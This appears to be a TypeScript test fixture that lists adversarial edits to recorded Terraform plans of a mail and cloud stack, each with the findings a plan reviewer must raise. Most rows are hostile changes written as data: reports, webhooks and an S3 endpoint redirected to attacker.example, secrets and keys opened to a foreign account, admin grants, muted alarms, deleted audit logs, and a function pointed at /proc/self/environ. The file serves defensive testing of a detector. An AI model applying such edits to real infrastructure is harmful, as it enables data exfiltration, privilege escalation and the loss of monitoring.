/**
 * Harmful edits of the stacks, each with what holds it back. `row` is its name in the table of the adversarial review (real plans of prod's and its
 * account's stack) or, after "crafted:", among the crafted plans; "like:" is a sibling of one. `harmless` has the reason where nothing is held.
 */
import { rsaPublicKey } from "../fixtures/rsa-public-keys";
import {
  add,
  addressesOf,
  type Edit,
  edited,
  everyPolicy,
  find,
  forget,
  policy,
  record,
  remove,
  removeAll,
  type Stack,
  set,
  text,
} from "./recorded-plan";

export interface Row {
  row: string;
  stack: Stack;
  edit: Edit[];
  /** Ids of findings that must be among those found; or why none is needed. */
  found: string[] | { harmless: string };
}

const domain = "mail.example.com";
const spf = "cloudflare_dns_record.dns_spf";
const dmarc = "cloudflare_dns_record.dns_dmarc";
const key = "aws_kms_key.secrets_key";
const smtp = "aws_iam_user_policy.ses-smtp_may-send";
const set1 = "aws_sesv2_configuration_set.ses_configuration-set";
const destination = "aws_sesv2_configuration_set_event_destination.sending_to-topic";
const reads = "aws_cloudwatch_event_rule.secret-reads_rule";
const archive = "aws_s3_bucket.events_archive_bucket";
const archiveSetting = (setting: string, id: string): string => `aws_s3_bucket_${setting}.events_archive_${id}`;
const archivePolicy = archiveSetting("policy", "policy");
const archiveExpiry = archiveSetting("lifecycle_configuration", "expiry");
const trail = "aws_cloudtrail.audit_trail";
const bucket = "aws_s3_bucket.audit_bucket";
const applyRole = "aws_iam_role.prod_apply";
const planPolicy = "aws_iam_role_policy.prod_plan-policy";
const people = "aws_iam_role.prod_break-glass";
const attacker = "attacker.example";
const foreign = "999988887777";
const everybody = { Effect: "Allow", Principal: "*", Action: "*", Resource: "*" };

const prod = (row: string, found: Row["found"], ...edit: Edit[]): Row => ({ row, stack: "prod", edit, found });
const acct = (row: string, found: Row["found"], ...edit: Edit[]): Row => ({ row, stack: "account", edit, found });
const spfWith = (term: string): Edit => text(spf, (was) => was.replace("~all", `${term} ~all`));
const dmarcWith = (from: RegExp, to: string): Edit => text(dmarc, (was) => was.replace(from, to));
const eachStatement = (change: object) => (all: Record<string, unknown>[]) => all.map((each) => ({ ...each, ...change }));
const adding = (statement: object) => (all: Record<string, unknown>[]) => [...all, { Sid: "More", ...statement }];
const allOf =
  (type: string, values: Record<string, unknown>): Edit =>
  (plan) => {
    for (const address of addressesOf(plan, type)) set(address, values)(plan);
  };
const admin = "arn:aws:iam::aws:policy/AdministratorAccess";
const rsaKey = rsaPublicKey(2048);
const gone =
  (type: string): Edit =>
  (plan) => {
    const change = { actions: ["delete"], before: { id: "x" }, after: null };
    plan.resource_changes.push({ address: `${type}.x`, mode: "managed", type, change });
  };
const trust = (...statements: object[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });

export const rows: Row[] = [
  prod("spf-ip4-8s", ["spf/sender-added"], spfWith(Array.from({ length: 16 }, (_, index) => `ip4:${16 * index + 1}.0.0.0/8`).join(" "))),
  prod(
    "like: spf-ip4-8s, many /24",
    ["spf/sender-added"],
    spfWith(["0", "1", "2", "3", "4"].map((each) => `ip4:198.51.${each}.0/24`).join(" ")),
  ),
  prod("spf-exists", ["spf/sender-added"], spfWith(`exists:%{i}._spf.${attacker}`)),
  prod("spf-exists-true", ["spf/sender-added"], spfWith(`exists:${domain}`)),
  prod("spf-ptr", ["spf/sender-added"], spfWith("ptr")),
  prod("like: spf-ptr, a of a stranger", ["spf/sender-added"], spfWith(`a:${attacker}`)),
  prod("like: spf-include", ["spf/sender-added"], spfWith(`include:${attacker}`)),
  prod("dmarc-rua-bogus", ["dmarc/reports-lost"], dmarcWith(/rua=\S+/, "rua=mailto:")),
  prod("dmarc-rua-http", ["dmarc/reports-elsewhere"], dmarcWith(/rua=\S+/, `rua=https://${attacker}/x`)),
  prod("dmarc-rua-foreign", ["dmarc/reports-elsewhere"], dmarcWith(/rua=\S+/, `rua=mailto:x@${attacker}`)),
  prod("dmarc-ruf-foreign", ["dmarc/reports-elsewhere"], dmarcWith(/$/, `; ruf=mailto:x@${attacker}`)),
  prod("dmarc-psd", ["dmarc/policy-weakened"], dmarcWith(/$/, "; psd=y")),
  prod(
    "dmarc-strict",
    { harmless: "stricter; the forecast says which provider loses its alignment" },
    dmarcWith(/adkim=r; aspf=r/, "adkim=s; aspf=s"),
  ),
  prod("dkim-ns", ["dns/delegated"], record("ns", `_domainkey.${domain}`, "NS", `ns1.${attacker}`)),
  prod("ns-sending-domain", ["dns/delegated"], record("ns", domain, "NS", `ns1.${attacker}`)),
  prod("like: ns above", ["dns/delegated"], record("ns", "example.com", "NS", `ns1.${attacker}`)),
  prod("like: dname", ["dns/delegated"], record("dname", domain, "DNAME", attacker)),
  prod(
    "dkim-stranger-key",
    ["dkim/selector-added"],
    record("key", `x._domainkey.${domain}`, "TXT", "v=DKIM1; k=rsa; p=MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCB"),
  ),
  prod("dkim-stranger-cname", ["dkim/selector-added"], record("key", `x._domainkey.${domain}`, "CNAME", `x.dkim.${attacker}`)),
  prod(
    "like: dkim of another account at SES",
    ["dkim/selector-added"],
    record("key", `abc._domainkey.${domain}`, "CNAME", "abc.dkim.amazonses.com"),
  ),
  prod(
    "rp-second-cname",
    ["dns/other-record", "dns/wildcard-added"],
    record("a", domain, "A", "192.0.2.1"),
    record("w", `*.${domain}`, "CNAME", attacker),
  ),
  prod("wild-dkim", ["dns/wildcard-added"], record("w", `*._domainkey.${domain}`, "TXT", "v=DKIM1; p=")),
  prod("like: wildcard above", ["dns/wildcard-added"], record("w", "*.example.com", "TXT", "v=spf1 +all")),
  prod("mx-second", ["mx/added"], record("mx", `bounce.${domain}`, "MX", `mx.${attacker}`, { priority: 5 })),
  prod("mx-null-sending", ["mx/null-added"], record("mx", domain, "MX", ".", { priority: 0 })),
  prod("mx-new-sending", ["mx/elsewhere"], record("mx", domain, "MX", `mx.${attacker}`, { priority: 10 })),
  prod("like: mx above", ["mx/elsewhere"], record("mx", "example.com", "MX", `mx.${attacker}`, { priority: 10 })),
  prod("a-at-sending", ["dns/other-record"], record("a", domain, "A", "192.0.2.1")),
  prod("like: aaaa below", ["dns/other-record"], record("a", `em2.${domain}`, "AAAA", "2001:db8::1")),
  prod("ttl-86400", ["resource/attribute"], allOf("cloudflare_dns_record", { ttl: 86_400 })),
  prod("tlsrpt-delete", ["tls-rpt/deleted"], remove("cloudflare_dns_record.dns_tls-rpt")),
  prod(
    "like: tls-rpt to a stranger",
    ["tls-rpt/reports-elsewhere"],
    text("cloudflare_dns_record.dns_tls-rpt", () => `v=TLSRPTv1; rua=mailto:x@${attacker}`),
  ),
  prod("like: dns record in another zone", ["resource/attribute"], set(spf, { zone_id: "ffffffffffffffffffffffffffffffff" })),

  prod("kms-rotation-off", ["resource/attribute"], set(key, { enable_key_rotation: false })),
  prod("like: kms-rotation left out", ["resource/attribute"], set(key, { enable_key_rotation: undefined })),
  prod("kms-policy-star", ["encryption-key/opened"], policy(key, adding({ ...everybody, Action: "kms:*" }))),
  prod(
    "kms-policy-foreign",
    ["encryption-key/opened"],
    policy(key, adding({ ...everybody, Action: "kms:Decrypt", Principal: { AWS: `arn:aws:iam::${foreign}:root` } })),
  ),
  prod("kms-policy-no-condition", ["encryption-key/opened"], policy(key, eachStatement({ Condition: undefined }))),
  prod(
    "like: kms, the account shut out",
    ["encryption-key/closed"],
    policy(key, (all) => all.filter(({ Sid }) => Sid !== "IamPoliciesOfTheAccount")),
  ),
  prod("kms-window-7", ["resource/attribute"], set(key, { deletion_window_in_days: 7 })),
  prod(
    "kms-alias-retarget",
    ["resource/attribute"],
    set("aws_kms_alias.secrets_key-alias", { target_key_id: "11111111-2222-3333-4444-555555555555" }),
  ),
  prod("secret-recovery-0", ["resource/attribute"], allOf("aws_secretsmanager_secret", { recovery_window_in_days: 0 })),
  prod("secret-kms-default", ["resource/attribute"], set("aws_secretsmanager_secret.secrets_application", { kms_key_id: undefined })),
  prod(
    "secret-policy-vacuous",
    ["secret-policy/weakened"],
    everyPolicy("aws_secretsmanager_secret_policy", eachStatement({ Action: "secretsmanager:CancelRotateSecret" })),
  ),
  prod(
    "secret-policy-readers",
    ["secret-policy/reader-added"],
    policy("aws_secretsmanager_secret_policy.secrets_application-policy", (all) =>
      all.map((each) => (each.Sid === "NamedReadersOnly" ? { ...each, Condition: { StringNotLike: { "aws:PrincipalArn": "*" } } } : each)),
    ),
  ),
  prod(
    "like: one named reader more",
    ["secret-policy/reader-added"],
    everyPolicy("aws_secretsmanager_secret_policy", (all) =>
      all.map((each) =>
        each.Sid === "NamedReadersOnly"
          ? {
              ...each,
              Condition: { StringNotEquals: { "aws:PrincipalArn": [`arn:aws:iam::444455556666:role/mallory`, ...readersOf(each)] } },
            }
          : each,
      ),
    ),
  ),
  prod(
    "secret-policy-allow-foreign",
    ["secret-policy/weakened"],
    policy(
      "aws_secretsmanager_secret_policy.secrets_application-policy",
      adding({ ...everybody, Action: "secretsmanager:GetSecretValue", Principal: { AWS: `arn:aws:iam::${foreign}:root` } }),
    ),
  ),
  prod(
    "like: secret-policy, NotAction",
    ["secret-policy/weakened"],
    policy(
      "aws_secretsmanager_secret_policy.secrets_application-policy",
      adding({ ...everybody, Action: undefined, NotAction: "secretsmanager:DeleteSecret" }),
    ),
  ),
  prod(
    "like: secret-policy, everybody shut out",
    ["secret-policy/closed"],
    policy("aws_secretsmanager_secret_policy.secrets_application-policy", adding({ ...everybody, Effect: "Deny" })),
  ),
  prod(
    "secret-policy-public-ok",
    ["resource/attribute"],
    set("aws_secretsmanager_secret_policy.secrets_application-policy", { block_public_policy: false }),
  ),
  prod(
    "smtp-user-star",
    ["smtp-user-policy/widened"],
    policy(smtp, () => [{ Effect: "Allow", Action: "ses:*", Resource: "*" }]),
  ),
  prod(
    "smtp-user-admin",
    ["smtp-user-policy/widened"],
    policy(smtp, () => [{ Effect: "Allow", Action: "*", Resource: "*" }]),
  ),
  prod("smtp-user-noconditions", ["smtp-user-policy/widened"], policy(smtp, eachStatement({ Condition: undefined }))),
  prod(
    "smtp-user-deny",
    ["smtp-user-policy/stops-mail"],
    policy(smtp, adding({ Effect: "Deny", Action: "ses:SendRawEmail", Resource: "*" })),
  ),
  prod(
    "like: smtp-user, nothing allowed",
    ["smtp-user-policy/stops-mail"],
    policy(smtp, () => []),
  ),
  prod(
    "smtp-user-attach-admin",
    ["plan/other-type"],
    add("aws_iam_user_policy_attachment", "x", { user: "twinpost-prod-smtp", policy_arn: admin }),
  ),
  prod("smtp-user-key", ["plan/other-type"], add("aws_iam_access_key", "x", { user: "twinpost-prod-smtp" })),
  prod("secret-version", ["plan/other-type"], add("aws_secretsmanager_secret_version", "x", { secret_string: "hunter2" })),
  prod("secret-data-read", ["plan/data-source", "plan/output"], (plan) => {
    plan.configuration.root_module.resources.push({
      address: "data.aws_secretsmanager_secret_version.x",
      mode: "data",
      type: "aws_secretsmanager_secret_version",
    });
    plan.output_changes.password = { actions: ["create"], before: null, after: "hunter2" };
  }),
  prod("like: ephemeral", ["plan/data-source"], (plan) => {
    plan.configuration.root_module.resources.push({
      address: "ephemeral.aws_secretsmanager_secret_version.x",
      mode: "ephemeral",
      type: "aws_secretsmanager_secret_version",
    });
  }),
  prod("ses-suppression-off", ["resource/attribute"], set(set1, { "suppression_options.0.suppressed_reasons": [] })),
  prod("ses-reputation-off", ["resource/attribute"], set(set1, { "reputation_options.0.reputation_metrics_enabled": false })),
  prod("ses-tracking", ["resource/attribute"], set(set1, { tracking_options: [{ custom_redirect_domain: attacker }] })),
  prod("ses-pool", ["resource/attribute"], set(set1, { "delivery_options.0.sending_pool_name": "other" })),
  prod(
    "ses-mailfrom-reject",
    ["resource/attribute"],
    set("aws_sesv2_email_identity_mail_from_attributes.ses_mail-from", { behavior_on_mx_failure: "REJECT_MESSAGE" }),
  ),
  prod("ses-identity-policy", ["plan/other-type"], add("aws_sesv2_email_identity_policy", "x", { policy: trust(everybody) })),
  prod("ses-event-dest-gone", ["resource/deleted"], remove(destination)),
  prod(
    "ses-event-dest-foreign",
    ["resource/attribute"],
    set(destination, { "event_destination.0.sns_destination.0.topic_arn": `arn:aws:sns:eu-west-1:${foreign}:x` }),
  ),
  prod(
    "sns-policy-star",
    ["topic/opened"],
    policy("aws_sns_topic_policy.sending_events_policy", adding({ ...everybody, Action: "sns:Subscribe" })),
  ),
  prod(
    "like: topic closed to its publisher",
    ["topic/closed"],
    policy("aws_sns_topic_policy.alerts_policy", (all) => all.filter(({ Effect }) => Effect === "Deny")),
  ),
  prod(
    "sns-sub-foreign",
    ["alerts/recipient-elsewhere"],
    add("aws_sns_topic_subscription", "x", {
      protocol: "https",
      endpoint: `https://${attacker}/x`,
      topic_arn: "arn:aws:sns:eu-west-1:444455556666:twinpost-prod-sending-events",
    }),
  ),
  prod("sns-unencrypted", ["resource/attribute"], allOf("aws_sns_topic", { kms_master_key_id: undefined })),
  prod("alarms-gone", ["event-source/deleted", "resource/deleted"], removeAll("aws_cloudwatch_metric_alarm", "aws_sns_topic_subscription")),
  prod(
    "like: alarm at a rate that comes too late",
    ["resource/attribute"],
    set("aws_cloudwatch_metric_alarm.alarm_bounce-rate", { threshold: 0.9 }),
  ),
  prod("failures-late", ["resource/attribute"], set("aws_cloudwatch_metric_alarm.watch_ses-failures-page", { threshold: 0.95 })),
  prod("slow-late", ["resource/attribute"], set("aws_cloudwatch_metric_alarm.watch_ses-slow-ticket", { threshold: 7200 })),
  prod("expiry-late", ["resource/attribute"], set("aws_cloudwatch_metric_alarm.watch_expiry-page", { threshold: 1 })),
  prod(
    "joined-alarm-silenced",
    ["resource/attribute"],
    edited(
      "aws_cloudwatch_composite_alarm.watch_events-ticket",
      "alarm_rule",
      (rule) => `${rule.slice(0, -1)} OR ALARM("x")) AND NOT ALARM("y")`,
    ),
  ),
  prod(
    "joined-alarm-without-one",
    ["resource/attribute"],
    edited("aws_cloudwatch_composite_alarm.watch_events-ticket", "alarm_rule", (rule) =>
      rule.replace(/ALARM\("[^"]+dead-letters-ticket"\)/, 'ALARM("x")'),
    ),
  ),
  prod(
    "joined-alarm-tells-nobody",
    ["resource/attribute"],
    set("aws_cloudwatch_composite_alarm.watch_ses-mail-page", { alarm_actions: [] }),
  ),
  prod(
    "joined-alarm-silenced-by-another",
    ["resource/attribute"],
    set("aws_cloudwatch_composite_alarm.watch_ses-mail-ticket", { "actions_suppressor.0.alarm": "twinpost-prod/daytime" }),
  ),
  prod(
    "page-silenced",
    ["resource/attribute"],
    set("aws_cloudwatch_composite_alarm.watch_ses-mail-page", { "actions_suppressor.0.alarm": "twinpost-prod/ses-mail-page" }),
  ),
  prod(
    "joined-alarm-silenced-for-a-day",
    ["resource/attribute"],
    set("aws_cloudwatch_composite_alarm.watch_ses-mail-ticket", { "actions_suppressor.0.extension_period": 86_400 }),
  ),
  prod("alarms-mute", ["resource/attribute"], allOf("aws_cloudwatch_metric_alarm", { actions_enabled: false })),
  prod("secret-reads-off", ["resource/attribute"], set(reads, { state: "DISABLED" })),
  prod("like: secret-reads, another pattern", ["secret-reads/weakened"], set(reads, { event_pattern: '{"source":["aws.nothing"]}' })),
  prod("secret-reads-gone", ["resource/deleted"], remove(reads)),
  prod("sg-click-on", ["plan/other-type"], add("sendgrid_click_tracking_setting", "x", { enabled: true })),
  prod(
    "like: sg-click-on, by the type of the account",
    ["resource/attribute"],
    add("sendgrid_click_tracking_settings", "x", { enabled: true }),
  ),
  prod("event-table-gone", ["event-table/deleted"], remove("aws_dynamodb_table.events_table")),
  prod("raw-events-gone", ["event-archive/deleted"], remove(archive)),
  prod(
    "like: raw-events-gone, with all of its settings",
    ["event-archive/deleted"],
    ...[
      ...[archive, archivePolicy, archiveExpiry, archiveSetting("ownership_controls", "ownership")],
      ...[archiveSetting("public_access_block", "no-public-access"), archiveSetting("server_side_encryption_configuration", "encryption")],
    ].map((each) => remove(each)),
  ),
  prod("raw-events-kept-for-ever", ["event-expiry/deleted"], remove(archiveExpiry)),
  prod("like: raw-events-kept-for-ever, switched off", ["event-archive/expiry"], set(archiveExpiry, { "rule.0.status": "Disabled" })),
  prod("raw-events-kept-longer", ["event-archive/expiry"], set(archiveExpiry, { "rule.0.expiration.0.days": 400 })),
  prod("raw-events-kept-shorter", ["event-archive/expiry"], set(archiveExpiry, { "rule.0.expiration.0.days": 1 })),
  prod("like: raw-events-kept-longer, of some", ["resource/attribute"], set(archiveExpiry, { "rule.0.filter.0.prefix": "undated/" })),
  prod("raw-events-read-by-another", ["event-archive/opened"], policy(archivePolicy, adding({ ...everybody, Action: "s3:GetObject" }))),
  prod(
    "like: raw-events-read-by-another, of our account",
    ["event-archive/opened"],
    policy(archivePolicy, adding({ ...everybody, Principal: { AWS: "arn:aws:iam::444455556666:role/backend" }, Action: "s3:GetObject" })),
  ),
  prod(
    "raw-events-without-tls",
    ["event-archive/opened"],
    policy(archivePolicy, () => []),
  ),
  prod(
    "raw-events-not-written",
    ["event-archive/closed"],
    policy(archivePolicy, adding({ ...everybody, Effect: "Deny", Action: "s3:PutObject" })),
  ),
  prod(
    "raw-events-public",
    ["event-archive/opened"],
    set(archiveSetting("public_access_block", "no-public-access"), { block_public_policy: false }),
  ),
  prod(
    "raw-events-with-owners",
    ["event-archive/opened"],
    set(archiveSetting("ownership_controls", "ownership"), { "rule.0.object_ownership": "ObjectWriter" }),
  ),
  prod("raw-events-copied", ["plan/other-type"], add("aws_s3_bucket_replication_configuration", "x", { bucket: "x" })),
  prod(
    "like: raw-events-copied, as versions",
    ["audit-bucket/not-versioned", "resource/attribute"],
    add("aws_s3_bucket_versioning", "x", { bucket: "somebody-elses" }),
  ),
  prod("another-bucket", ["resource/attribute"], add("aws_s3_bucket", "x", { bucket: "somebody-elses" })),
  prod(
    "function-archives-elsewhere",
    ["resource/attribute"],
    set("aws_lambda_function.events_take-events_function", { "environment.0.variables.TWINPOST_ARCHIVE": "somebody-elses" }),
  ),
  prod(
    "outcomes-told-to-another",
    ["resource/attribute"],
    set("aws_lambda_function.events_take-events_function", {
      "environment.0.variables.TWINPOST_OUTCOME_QUEUE": "https://sqs.eu-west-1.amazonaws.com/444455556666/outcomes",
    }),
  ),
  prod("sg-webhook-off", ["events/not-taken"], set("sendgrid_event_webhook.sendgrid-events_webhook", { enabled: false })),
  prod("sg-webhook-unsigned", ["events/not-taken"], set("sendgrid_event_webhook.sendgrid-events_webhook", { signed: false })),
  prod("feed-off", ["events/not-taken"], set("aws_lambda_event_source_mapping.events_take-from-queue", { enabled: false })),
  prod(
    "function-other-role",
    ["resource/attribute"],
    set("aws_lambda_function.events_take-events_function", { role: "arn:aws:iam::444455556666:role/twinpost-prod-break-glass" }),
  ),
  prod(
    "function-other-code",
    ["resource/attribute"],
    set("aws_lambda_function.events_take-events_function", { filename: "/proc/self/environ" }),
  ),
  prod("queue-without-dead-letters", ["resource/attribute"], set("aws_sqs_queue.events_queue", { redrive_policy: "" })),
  prod("sg-webhook", ["events/not-taken"], add("sendgrid_event_webhook", "x", { url: `https://${attacker}` })),
  prod("removed-forget-all", ["resource/forgotten"], forget(key, dmarc, spf, "aws_sesv2_email_identity.ses_identity")),
  prod("provisioner", ["plan/other-type", "plan/provisioner"], add("terraform_data", "x", {}), (plan) => {
    const made = plan.configuration.root_module.resources.at(-1);
    if (made) made.provisioners = [{ type: "local-exec" }];
  }),
  prod("like: provisioner of a listed type", ["plan/provisioner"], (plan) => {
    for (const each of plan.configuration.root_module.resources) if (each.address === spf) each.provisioners = [{ type: "local-exec" }];
  }),
  prod("output-records-lie", ["plan/output"], (plan) => {
    const { before } = plan.output_changes.records as { before: unknown };
    plan.output_changes.records = { actions: ["update"], before, after: [] };
  }),
  prod("ses-identity-set", ["resource/attribute"], set("aws_sesv2_email_identity.ses_identity", { configuration_set_name: "other" })),
  prod("env-tag", ["resource/attribute"], set(key, { "tags_all.environment": "dev", "tags.environment": "dev" })),
  prod("like: another provider plugin", ["plan/provider"], (plan) => {
    plan.configuration.provider_config.http = { full_name: "registry.terraform.io/hashicorp/http", expressions: {} };
  }),
  prod("like: a plugin led elsewhere", ["plan/provider"], (plan) => {
    const { aws } = plan.configuration.provider_config;
    if (aws) aws.expressions.endpoints = [{ s3: { constant_value: `https://${attacker}` } }];
  }),
  prod("like: a module", ["plan/module"], (plan) => {
    plan.configuration.root_module.module_calls = { x: { source: attacker } };
  }),
  prod("like: actions of Terraform 1.14", ["plan/unknown-part"], (plan) => {
    plan.action_invocations = [{ address: "action.local_command.x" }];
  }),
  prod(
    "like: the journal unprotected",
    ["resource/attribute"],
    set("aws_dynamodb_table.journal_table", { deletion_protection_enabled: false }),
  ),
  prod("like: the journal deleted", ["journal/deleted"], remove("aws_dynamodb_table.journal_table")),
  prod("like: the journal's stream", ["resource/attribute"], set("aws_dynamodb_table.journal_table", { stream_enabled: true })),
  prod("crafted: create and forget", ["resource/forgotten"], (plan) => {
    Object.assign(find(plan, dmarc).change, { actions: ["create", "forget"] });
  }),
  prod("crafted: forget and create", ["resource/forgotten"], (plan) => {
    Object.assign(find(plan, dmarc).change, { actions: ["forget", "create"] });
  }),
  prod("crafted: forget", ["resource/forgotten"], forget(dmarc)),
  prod("crafted: cloudflare_record of version 4", ["plan/other-type"], gone("cloudflare_record")),
  prod("crafted: zone deleted", ["plan/other-type"], gone("cloudflare_zone")),
  prod("crafted: DNSSEC deleted", ["plan/other-type"], gone("cloudflare_zone_dnssec")),
  prod("crafted: deferred deletion", ["resource/deferred"], (plan) => {
    const { change, ...dns } = find(plan, dmarc);
    plan.deferred_changes = [
      { reason: "provider_config_unknown", resource_change: { ...dns, change: { ...change, actions: ["delete"], after: null } } },
    ];
  }),
  prod("crafted: proxied unknown", ["dns/proxied"], (plan) => {
    const { change } = find(plan, "cloudflare_dns_record.dns_sendgrid-dkim-1");
    Object.assign(change, { actions: ["update"], after_unknown: { proxied: true } });
  }),
  prod("crafted: return path at a vanity target deleted", ["resource/deleted"], (plan) => {
    const [address = ""] = addressesOf(plan, "sendgrid_sender_authentication");
    plan.resource_changes = plan.resource_changes.filter((each) => each.address !== address);
    const { change } = find(plan, "cloudflare_dns_record.dns_sendgrid-return-path");
    Object.assign(change, { actions: ["delete"], before: { ...change.before, content: "bounces.example.org" }, after: null });
  }),
  prod("crafted: MTA-STS deleted", ["mta-sts/deleted"], record("sts", `_mta-sts.${domain}`, "TXT", "v=STSv1; id=1"), (plan) => {
    const { change } = find(plan, "cloudflare_dns_record.sts");
    Object.assign(change, { actions: ["delete"], before: change.after, after: null });
  }),
  ...["s=calendar", "t=y", "h=sha1", "v=DKIM2"].map((tag) =>
    prod(
      `crafted: DKIM ${tag}`,
      [tag === "t=y" ? "dkim/testing" : "dkim/deleted"],
      record("key", `x._domainkey.${domain}`, "TXT", `v=DKIM1; p=${rsaKey}`),
      (plan) => {
        const { change } = find(plan, "cloudflare_dns_record.key");
        const content = JSON.stringify(tag.startsWith("v=") ? `${tag}; p=${rsaKey}` : `v=DKIM1; ${tag}; p=${rsaKey}`);
        Object.assign(change, { actions: ["update"], before: change.after, after: { ...change.after, content } });
      },
    ),
  ),
  prod("crafted: DMARC CNAME retargeted", ["dmarc/target-changed"], (plan) => {
    const { change } = find(plan, dmarc);
    const before = { ...change.before, type: "CNAME", content: "_dmarc.example.com" };
    Object.assign(change, { actions: ["update"], before, after: { ...before, content: `_dmarc.${attacker}` } });
  }),

  prod("like: the SMTP user unbound", ["resource/attribute"], set("aws_iam_user.ses-smtp_user", { permissions_boundary: undefined })),
  prod(
    "like: the SMTP user bound by a stranger's policy",
    ["resource/attribute"],
    set("aws_iam_user.ses-smtp_user", { permissions_boundary: `arn:aws:iam::${foreign}:policy/x` }),
  ),
  acct(
    "like: the boundary widened",
    ["role/permissions-widened"],
    policy("aws_iam_policy.prod-smtp-boundary", (all) => [...all, { Effect: "Allow", Action: "iam:*", Resource: "*" }]),
  ),

  acct(
    "trust-notaction",
    ["role/trust-widened"],
    policy(applyRole, eachStatement({ Action: undefined, NotAction: "sts:GetCallerIdentity" }), "assume_role_policy"),
  ),
  acct(
    "trust-sts-principal",
    ["role/trust-widened"],
    policy(people, eachStatement({ Principal: { AWS: "arn:aws-cn:iam::444455556666:user/ada" } }), "assume_role_policy"),
  ),
  acct(
    "trust-canonical-kind",
    ["role/trust-widened"],
    policy(
      people,
      (all) => all.map((each) => ({ ...each, Principal: { Service: (each.Principal as { AWS: unknown }).AWS } })),
      "assume_role_policy",
    ),
  ),
  acct(
    "like: trust, a user of another account",
    ["role/trust-widened"],
    policy(people, eachStatement({ Principal: { AWS: `arn:aws:iam::${foreign}:user/ada` } }), "assume_role_policy"),
  ),
  acct("session-12h", ["resource/attribute"], set(applyRole, { max_session_duration: 43_200 })),
  acct(
    "may-admin",
    ["role/permissions-widened"],
    policy(planPolicy, () => [{ Effect: "Allow", Action: "*", Resource: "*" }]),
  ),
  acct("may-notaction", ["role/permissions-widened"], policy(planPolicy, adding({ Effect: "Allow", NotAction: "iam:*", Resource: "*" }))),
  acct("may-deny-gone", ["role/permissions-widened"], (plan) => {
    const denies = JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Deny", Action: "iam:*", Resource: "*" }] });
    const { change } = find(plan, planPolicy);
    Object.assign(change, {
      actions: ["update"],
      before: { ...change.before, policy: denies },
      after: { ...change.after, policy: trust() },
    });
  }),
  acct(
    "attach-admin",
    ["role/permissions-widened"],
    add("aws_iam_role_policy_attachment", "x", { role: "twinpost-prod-plan", policy_arn: admin }),
  ),
  acct("managed-arns", ["resource/attribute"], set(applyRole, { managed_policy_arns: [admin] })),
  acct(
    "like: an inline policy in the role",
    ["resource/attribute"],
    set(applyRole, { inline_policy: [{ name: "x", policy: trust(everybody) }] }),
  ),
  acct(
    "new-role",
    ["resource/attribute", "role/trust-widened"],
    add("aws_iam_role", "x", {
      name: "x",
      max_session_duration: 3600,
      assume_role_policy: trust({ ...everybody, Resource: undefined, Action: "sts:AssumeRole" }),
    }),
  ),
  acct(
    "like: a new role of an unknown trust",
    ["policy/not-readable", "resource/attribute"],
    add("aws_iam_role", "x", { name: "x", max_session_duration: 3600 }, { assume_role_policy: true }),
  ),
  acct(
    "like: a new permission to everything",
    ["resource/attribute", "role/permissions-widened"],
    add("aws_iam_role_policy", "x", {
      name: "x",
      role: "twinpost-prod-plan",
      policy: trust({ Effect: "Allow", Action: "*", Resource: "*" }),
    }),
  ),
  acct(
    "new-oidc",
    ["resource/attribute"],
    add("aws_iam_openid_connect_provider", "x", { url: `https://${attacker}`, client_id_list: ["sts.amazonaws.com"] }),
  ),
  acct("trail-kms", ["resource/attribute"], set(trail, { kms_key_id: `arn:aws:kms:eu-west-1:${foreign}:key/x` })),
  acct(
    "audit-policy-public",
    ["audit-bucket/opened"],
    policy("aws_s3_bucket_policy.audit_policy", adding({ ...everybody, Action: "s3:*" })),
  ),
  acct(
    "audit-policy-closed",
    ["audit-bucket/closed"],
    policy("aws_s3_bucket_policy.audit_policy", (all) => all.filter(({ Effect }) => Effect === "Deny")),
  ),
  acct(
    "like: CloudTrail denied",
    ["audit-bucket/closed"],
    policy("aws_s3_bucket_policy.audit_policy", adding({ ...everybody, Effect: "Deny", Action: "s3:PutObject" })),
  ),
  acct(
    "audit-lifecycle",
    ["event-archive/expiry", "resource/attribute"],
    add("aws_s3_bucket_lifecycle_configuration", "x", {
      ...{ bucket: "twinpost-audit-444455556666-eu-west-1", rule: [{ status: "Enabled", expiration: [{ days: 1 }] }] },
    }),
  ),
  acct(
    "like: audit-lifecycle, as the archive of raw events has it",
    ["resource/attribute"],
    add("aws_s3_bucket_lifecycle_configuration", "x", {
      bucket: "twinpost-audit-444455556666-eu-west-1",
      rule: [
        {
          ...{ id: "expire", status: "Enabled", filter: [{ prefix: "" }], expiration: [{ days: 30 }] },
          ...{ noncurrent_version_expiration: [{ noncurrent_days: 1 }], abort_incomplete_multipart_upload: [{ days_after_initiation: 1 }] },
        },
      ],
    }),
  ),
  acct(
    "like: audit-lifecycle in the bucket",
    ["resource/attribute"],
    set(bucket, { lifecycle_rule: [{ enabled: true, expiration: [{ days: 1 }] }] }),
  ),
  acct("audit-force-destroy", ["resource/attribute"], set(bucket, { force_destroy: true })),
  acct("org-key-policy", ["encryption-key/opened"], policy("aws_kms_key.organisation_key", adding({ ...everybody, Action: "kms:*" }))),
  acct("suppression-gone", ["resource/deleted"], removeAll("aws_sesv2_account_suppression_attributes")),
  acct("suppression-empty", ["resource/attribute"], allOf("aws_sesv2_account_suppression_attributes", { suppressed_reasons: [] })),
  acct("sg-click-true", ["resource/attribute"], allOf("sendgrid_click_tracking_settings", { enabled: true })),
  acct("sg-bounce-purge", ["resource/attribute"], allOf("sendgrid_bounce_settings", { enabled: true, hard_bounces: 1 })),
  acct("sg-tls-forget", ["resource/forgotten"], forget("aws_iam_role.prod_plan", trail)),
];

function readersOf({ Condition }: Record<string, unknown>): string[] {
  return Object.values(Condition as Record<string, Record<string, string | string[]>>).flatMap((keys) => Object.values(keys).flat());
}
